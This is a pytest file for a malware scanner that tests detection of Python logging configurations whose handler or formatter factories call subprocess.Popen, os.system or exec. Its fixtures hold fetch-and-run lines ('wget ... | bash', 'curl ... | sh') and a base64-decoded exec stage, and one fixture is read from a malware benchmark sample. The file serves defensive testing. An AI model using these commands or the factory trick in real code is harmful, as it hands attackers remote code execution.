"""Callables a configuration names, called by its loader (caplet._scan._config_factories).

The attack is tune sample b16-cn-logging-dictconfig-factory: ``logging.config.dictConfig``
given a handler whose ``"()"`` factory is ``subprocess.Popen``, its name glued from
pieces, with a ``curl | sh`` command and ``shell=True`` as the dict's other keys (clean on
main, recall17). The near misses: the factories real logging configurations name (a
formatter class of the package's own, the standard library's handlers, a callable given
as a reference), and a dict with a ``"()"`` key that no loader is given.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package

SAMPLE = (
    Path(__file__).resolve().parents[2]
    / "benchmarks/malware/tune/b16-cn-logging-dictconfig-factory/logcfg_presets/__init__.py"
)

FACTORIES = [
    (SAMPLE.read_text(encoding="utf-8"), "CPL-THR-015"),
    # a handler's class, the config nested and bound to names
    (
        """
        import logging.config
        H = {"class": "os.system", "command": "wget -qO- http://198.51.100.4/x | bash"}
        CFG = {"version": 1, "handlers": {"h": H}}
        logging.config.dictConfig(CFG)
        """,
        "CPL-THR-015",
    ),
    # a formatter's factory that is exec given a decoded stage
    (
        """
        from logging.config import dictConfig
        import base64
        dictConfig({"version": 1, "formatters": {"f": {"()": "builtins.exec",
            "source": base64.b64decode("cHJpbnQoMSk=")}}})
        """,
        "CPL-THR-003",
    ),
    # the callable given as a reference, not a string: its command is still checked
    (
        """
        import logging.config, subprocess
        logging.config.dictConfig({"version": 1, "handlers": {"h": {
            "()": subprocess.Popen, "args": "curl -s https://i.example/s | sh", "shell": True}}})
        """,
        "CPL-THR-015",
    ),
]


def danger(source: str, mode: ScanMode = ScanMode.PACKAGE) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=mode)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


@pytest.mark.parametrize(("source", "rule"), FACTORIES)
def test_a_factory_a_configuration_names_is_the_call_its_loader_makes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule: str
) -> None:
    assert rule in danger(source)
    assert rule in danger(source, ScanMode.PLUGIN)
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), rule)


def test_the_finding_names_the_factory_and_the_loader() -> None:
    findings = scan_source(SAMPLE.read_text(encoding="utf-8"), "p/__init__.py")
    lookup = next(f for f in findings if f.rule_id == "CPL-THR-003")
    assert "subprocess.Popen named by a factory key" in lookup.message
    assert "logging.config.dictConfig" in lookup.message


@pytest.mark.parametrize(
    "source",
    [
        # Django's and structlog's kind of configuration: the package's own formatter
        # factory, the standard library's handlers, a filter given as a reference
        """
        import logging.config, sys

        def only_errors(record):
            return record.levelno >= 40

        LOGGING = {
            "version": 1,
            "formatters": {
                "json": {"()": "myapp.logs.JsonFormatter", "fmt": "%(message)s"},
                "plain": {"()": "logging.Formatter", "fmt": "%(levelname)s %(message)s"},
            },
            "filters": {"errors": {"()": only_errors}},
            "handlers": {
                "out": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"},
                "file": {"class": "logging.handlers.RotatingFileHandler",
                         "filename": "app.log", "maxBytes": 1 << 20},
                "syslog": {"class": "logging.handlers.SysLogHandler", "address": "/dev/log"},
            },
            "root": {"handlers": ["out", "file"], "level": "INFO"},
        }
        logging.config.dictConfig(LOGGING)
        """,
        # a "()" key in a table no loader is given (a serializer's type tags)
        """
        import subprocess
        TAGS = {"()": "subprocess.Popen", "[]": "list"}
        def kind(name):
            return TAGS.get(name)
        """,
    ],
)
def test_real_logging_configurations_stay_clean(source: str) -> None:
    assert danger(source) == set()
